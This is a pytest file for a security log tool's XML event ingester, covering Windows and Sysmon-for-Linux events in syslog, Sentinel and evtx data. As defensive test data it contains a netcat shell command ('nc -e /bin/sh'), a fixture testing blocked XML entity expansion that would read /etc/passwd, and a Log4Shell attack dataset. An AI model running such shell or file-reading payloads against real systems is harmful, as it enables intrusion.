"""Events in XML: of Windows and of Sysmon for Linux, in files, in syslog, in Sentinel's table, over several lines, and damaged."""

import io
import itertools
import zipfile
from collections import Counter
from pathlib import Path
from typing import Any

from evtx import PyEvtxParser

from watchkeeper.ingest import who_reads
from watchkeeper.ingest.evtx import evtx
from watchkeeper.ingest.reader import HEAD_BYTES, Row, Skipped
from watchkeeper.ingest.xml_events import xml_events
from watchkeeper.model.batch import Value

CASES = Path(__file__).parent.parent / "cases" / "ingest" / "xml_events"
EVENT = b"<Event><System><EventID>1</EventID><Channel>System</Channel></System></Event>"
CUT_OFF = "event in XML that is cut off"


def _read(text: bytes) -> list[Row | Skipped]:
    return list(xml_events.rows(io.BytesIO(text)))


def test_events_are_found_wherever_they_stand() -> None:
    found = _read((CASES / "syslog" / "input.log").read_bytes())
    assert [item.logsource.event_type if isinstance(item, Row) else item.reason for item in found] == [
        "1", "line without an event in XML", "5", "3", CUT_OFF, "1", "1", CUT_OFF,
    ]  # fmt: skip
    rows = [item for item in found if isinstance(item, Row)]
    assert rows[0].fields["CommandLine"] == 'nc -e "/bin/sh" <x>'
    assert rows[0].fields["Provider_Name"] == "Linux-Sysmon"
    assert rows[1].fields["Image"] == "<unknown process>", "the collector had turned semicolons into blanks"
    assert rows[1].host == "APP01"
    assert rows[2].time is not None, "the event has no SystemTime but a UtcTime"


def test_entities_are_never_expanded() -> None:
    found = _read((CASES / "hostile" / "input.log").read_bytes())
    assert [isinstance(item, Row) for item in found] == [False, False, True, False]
    assert "root:" not in repr(found)


def test_an_event_that_never_ends_is_given_up() -> None:
    found = _read(b"<Event>\n" + b"<x/>\n" * 10_000)
    assert found[0] == Skipped(CUT_OFF)
    assert len(found) > 1_000


def test_only_files_of_events_are_recognised() -> None:
    assert all(who_reads(path.read_bytes()[:HEAD_BYTES]) == "xml_events" for path in CASES.glob("*/input.*"))
    assert not xml_events.sniff(b"<Event><System><Provider Name='x'/></System></Event>")
    assert not xml_events.sniff(b"apt install Linux-Sysmon")
    assert not xml_events.sniff(b"x " + EVENT), "what somebody wrote into another's log"


def test_the_public_set_is_read_whole(data: Path) -> None:
    [path] = (data / "otrf" / "compound" / "Log4Shell").glob("syslog_sysmon*.zip")
    with zipfile.ZipFile(path) as archive:
        text = archive.read(archive.namelist()[0])
    assert xml_events.sniff(text[:HEAD_BYTES])
    found = _read(text)
    assert len(found) == len(text.splitlines())
    whole = sum(b"/Event\\u003e" in line for line in text.splitlines())
    assert Counter(type(item) for item in found) == {Row: whole, Skipped: len(found) - whole}


def test_a_file_that_is_one_line_is_read_event_by_event() -> None:
    found = _read(b"<?xml version='1.0'?><Events>" + EVENT * 40_000 + b"</Events>")
    assert [one.logsource.service if isinstance(one, Row) else one for one in found] == ["System"] * 40_000


def test_an_endless_line_costs_itself_alone() -> None:
    assert _read(b"<Event>" + b"x" * 17_000_000 + b"\n" + EVENT)[-1:] == _read(EVENT)


def test_an_event_behind_one_that_is_cut_off_in_the_same_line_is_read() -> None:
    assert _read(b"<Event><System>" + EVENT) == [Skipped(CUT_OFF), *_read(EVENT)]
    assert [type(one) for one in _read(EVENT + EVENT.replace(b"<Channel>", b"\n<Channel>"))] == [Row, Row]


def test_what_stands_behind_other_words_is_no_event() -> None:
    assert _read(b'192.0.2.7 - - "GET /' + EVENT + b'" 404\n' + EVENT)[0] == Skipped("line without an event in XML")


def test_names_and_values_are_those_of_the_same_events_in_evtx(data: Path) -> None:
    with zipfile.ZipFile(data / "evtx" / "evtx-to-mitre.zip") as archive:
        names = [one.filename for one in archive.infolist() if one.filename.endswith(".evtx") and one.file_size < 100_000]
        files = [archive.read(name) for name in names[:40]]
    assert files
    for content in files:
        parser: Any = PyEvtxParser(io.BytesIO(content))
        written = [record["data"].encode() for record in parser.records()]
        for binary, xml in itertools.zip_longest(evtx.rows(io.BytesIO(content)), _read(b"\n".join(written))):
            assert isinstance(binary, Row)
            assert isinstance(xml, Row)
            assert (xml.logsource, xml.time, xml.host) == (binary.logsource, binary.time, binary.host)
            assert xml.fields == {name: _as_in_xml(value) for name, value in binary.fields.items()}


def _as_in_xml(value: Value) -> Value:
    """XML 1.0, 2.11: every end of a line is read as one line feed."""
    return value.replace("\r\n", "\n") if isinstance(value, str) else [one.replace("\r\n", "\n") for one in value]
